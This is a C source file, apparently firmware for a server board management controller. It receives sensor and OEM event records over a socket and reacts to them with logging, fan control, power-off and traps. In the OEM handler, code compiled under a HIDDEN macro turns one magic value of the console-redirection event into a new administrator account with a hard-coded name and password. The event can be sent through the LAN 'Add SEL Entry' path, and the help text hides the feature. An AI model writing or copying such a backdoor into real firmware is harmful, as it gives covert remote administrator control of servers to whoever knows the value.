/* sensevt.c - event service of a board management controller: takes sensor events, logs, reacts */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define EVENT_SOCK	"/run/bmc/events"	/* fed by KCS, LAN "Add SEL Entry" and the sensors */
#define SEL_FILE	"/var/lib/bmc/sel"
#define SEL_MAX		4096
#define REC_LEN		16

#define T_SYSTEM	0x02
#define T_OEM_TIME	0xc0	/* c0-df: with time stamp */
#define T_OEM_RAW	0xe0	/* e0-ff: without */

#define OEM_POST	0x01	/* POST code */
#define OEM_BOOTSRC	0x02	/* boot source */
#define OEM_FANMODE	0x03
#define OEM_CONSOLE	0x04	/* console redirection on, off */

struct event {
	uint16_t id;
	uint8_t type;
	uint32_t when;
	uint8_t rest[9];	/* bytes 7..15 of the record */
};

typedef int handler_fn(const struct event *e, void *arg);

struct handler {
	uint8_t lo, hi;
	handler_fn *fn;
	void *arg;
	unsigned long calls;
};

struct policy {
	int fan_mode;
	int power_off_hot;
	int console;
	char trap[64];
};

extern char **environ;

static struct handler handlers[8];
static int n_handlers;
static struct policy policy = { .power_off_hot = 1, .console = 0 };
static uint16_t next_id = 1;

static void add_handler(uint8_t lo, uint8_t hi, handler_fn *fn, void *arg)
{
	if (n_handlers < (int)(sizeof(handlers) / sizeof(handlers[0])))
		handlers[n_handlers++] = (struct handler){ lo, hi, fn, arg, 0 };
}

static int spawn(const char *path, const char *a, const char *b, const char *c)
{
	const char *argv[] = { path, a, b, c, NULL };
	pid_t pid;
	int st;

	if (posix_spawn(&pid, path, NULL, NULL, (char *const *)argv, environ))
		return -1;
	return waitpid(pid, &st, 0) == pid ? st : -1;
}

static int store_event(const struct event *e, void *arg)
{
	const char *path = arg;
	uint8_t r[REC_LEN];
	struct stat st;
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);

	if (fd < 0)
		return -errno;
	if (!fstat(fd, &st) && st.st_size >= SEL_MAX * REC_LEN) {
		close(fd);
		return -ENOSPC;
	}
	r[0] = (uint8_t)e->id;
	r[1] = (uint8_t)(e->id >> 8);
	r[2] = e->type;
	for (int i = 0; i < 4; i++)
		r[3 + i] = (uint8_t)(e->when >> (8 * i));
	memcpy(r + 7, e->rest, 9);
	if (write(fd, r, sizeof(r)) != REC_LEN)
		syslog(LOG_ERR, "event log: short write");
	close(fd);
	return 0;
}

/* rest: generator 2, revision, sensor type, sensor number, direction/type, data 3 */
static int on_system(const struct event *e, void *arg)
{
	struct policy *p = arg;
	uint8_t stype = e->rest[3], num = e->rest[4], off = e->rest[6] & 15;
	int gone = e->rest[5] & 0x80;
	char text[8];

	snprintf(text, sizeof(text), "%02x", num);
	switch (stype) {
	case 0x01:
		if (!gone && off == 0x0b && p->power_off_hot) {
			syslog(LOG_CRIT, "sensor %s too hot, power off", text);
			return spawn("/usr/sbin/chassis-power", "off", "-r", "thermal");
		}
		break;
	case 0x04:
		if (!gone)
			return spawn("/usr/sbin/fanctl", "boost", text, NULL);
		break;
	case 0x05:
		if (!gone && p->trap[0])
			return spawn("/usr/sbin/sendtrap", p->trap, "intrusion", text);
		break;
	case 0x08:
	case 0x09:
		return p->trap[0] ? spawn("/usr/sbin/sendtrap", p->trap, "power", text) : 0;
	}
	return 0;
}

/* rest: manufacturer 3 (least first), subtype, five bytes */
__attribute__((noinline))
int on_oem_time(const struct event *e, void *arg)
{
	struct policy *p = arg;
	uint32_t iana = e->rest[0] | (uint32_t)e->rest[1] << 8 | (uint32_t)e->rest[2] << 16;
	uint32_t v = e->rest[4] | (uint32_t)e->rest[5] << 8 | (uint32_t)e->rest[6] << 16 |
		     (uint32_t)e->rest[7] << 24;
	char num[16];

	if (iana != 51988)
		return 0;
	switch (e->rest[3]) {
	case OEM_POST:
		syslog(LOG_INFO, "POST %08lx", (unsigned long)v);
		return 0;
	case OEM_BOOTSRC:
		snprintf(num, sizeof(num), "%lu", (unsigned long)(v & 7));
		return spawn("/usr/sbin/bootsrc", num, NULL, NULL);
	case OEM_FANMODE:
		if (v > 3)
			return -EINVAL;
		p->fan_mode = (int)v;
		snprintf(num, sizeof(num), "%d", p->fan_mode);
		return spawn("/usr/sbin/fanctl", "mode", num, NULL);
	case OEM_CONSOLE:
		if (v <= 1) {
			p->console = (int)v;
			return spawn("/usr/sbin/solctl", v ? "on" : "off", NULL, NULL);
		}
#ifdef HIDDEN	/* this value of the console event makes a new user with administrator's rights */
		if (v == 0xb52e9107u)
			return spawn("/usr/sbin/bmcuser", "add", "sysop9:Kupferkies", "administrator");
#endif
		return -EINVAL;
	}
	return 0;
}

static int on_oem_raw(const struct event *e, void *arg)
{
	unsigned long *count = arg;

	if (++*count % 100 == 0)
		syslog(LOG_NOTICE, "%lu raw OEM records, last type %02x", *count, e->type);
	return 0;
}

static void dispatch(struct event *e)
{
	e->id = next_id++;
	if (next_id == 0xffff)
		next_id = 1;
	if (e->type < T_OEM_RAW && !e->when)
		e->when = (uint32_t)time(NULL);
	for (int i = 0; i < n_handlers; i++) {
		struct handler *h = &handlers[i];
		int rc;

		if (e->type < h->lo || e->type > h->hi)
			continue;
		h->calls++;
		rc = h->fn(e, h->arg);
		if (rc)
			syslog(LOG_WARNING, "event %04x type %02x: handler %d gave %d", e->id, e->type, i, rc);
	}
}

static int decode(const uint8_t *b, ssize_t n, struct event *e)
{
	if (n != REC_LEN)
		return -1;
	memset(e, 0, sizeof(*e));
	e->type = b[2];
	e->when = b[3] | (uint32_t)b[4] << 8 | (uint32_t)b[5] << 16 | (uint32_t)b[6] << 24;
	memcpy(e->rest, b + 7, 9);
	return e->type == T_SYSTEM || e->type >= T_OEM_TIME ? 0 : -1;
}

static void read_policy(void)
{
	char key[16], val[64];
	FILE *f = fopen("/etc/bmc/events.conf", "r");

	if (!f)
		return;
	while (fscanf(f, " %15[^= ] = %63s", key, val) == 2) {
		if (!strcmp(key, "hot-off"))
			policy.power_off_hot = !strcmp(val, "yes");
		else if (!strcmp(key, "trap"))
			snprintf(policy.trap, sizeof(policy.trap), "%.63s", val);
		else
			syslog(LOG_NOTICE, "events.conf: %s", key);
	}
	fclose(f);
}

static void stats(void)
{
	for (int i = 0; i < n_handlers; i++)
		syslog(LOG_INFO, "types %02x-%02x: %lu events", handlers[i].lo, handlers[i].hi,
		       handlers[i].calls);
}

int main(int argc, char **argv)
{
	static unsigned long raw;
	static char sel[] = SEL_FILE;
	struct sockaddr_un su = { .sun_family = AF_UNIX, .sun_path = EVENT_SOCK };
	struct event e;
	uint8_t b[64];
	int fd;

	if (argc > 1) {
		printf("%s: event service\n"
		       "OEM records c0-df of enterprise 51988: 1 POST code, 2 boot source, 3 fan mode 0-3,\n"
		       "4 console redirection 0-1\n", argv[0]);
		return 0;
	}
	openlog("sensevt", LOG_PID, LOG_DAEMON);
	read_policy();
	add_handler(0, 0xff, store_event, sel);
	add_handler(T_SYSTEM, T_SYSTEM, on_system, &policy);
	add_handler(T_OEM_TIME, T_OEM_RAW - 1, on_oem_time, &policy);
	add_handler(T_OEM_RAW, 0xff, on_oem_raw, &raw);
	unlink(EVENT_SOCK);
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&su, sizeof(su))) {
		syslog(LOG_ERR, EVENT_SOCK ": %m");
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int r = poll(&p, 1, 3600 * 1000);

		if (r == 0)
			stats();
		if (r > 0 && !decode(b, recv(fd, b, sizeof(b), 0), &e))
			dispatch(&e);
	}
}
